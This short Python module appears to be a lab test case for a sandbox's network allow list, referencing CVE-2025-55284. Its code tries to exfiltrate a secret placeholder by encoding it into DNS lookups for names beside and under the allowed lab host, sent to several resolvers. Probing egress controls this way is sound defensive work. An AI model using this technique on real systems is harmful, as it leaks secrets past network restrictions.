"""asks for names beside the granted one, and below it"""

from act_parts import DNS_QUERY as _DNS_QUERY
from evidence import secret_left as succeeded

SHAPE = "CVE-2025-55284 with an allow list in place"
PROMISE = "P24"
LAB = True
OPTIONS = {"hosts": ["api.rwlab.net"]}
PYTHON = _DNS_QUERY + """
for name in ("@SECRET@.rwlab.net", "@SECRET@.api.rwlab.net"):
    for server in ("93.184.216.53", "127.0.0.1", "198.18.0.1"):
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query(name, 1), (server, 53))
            socket.getaddrinfo(name, 443)
        except OSError:
            pass
"""
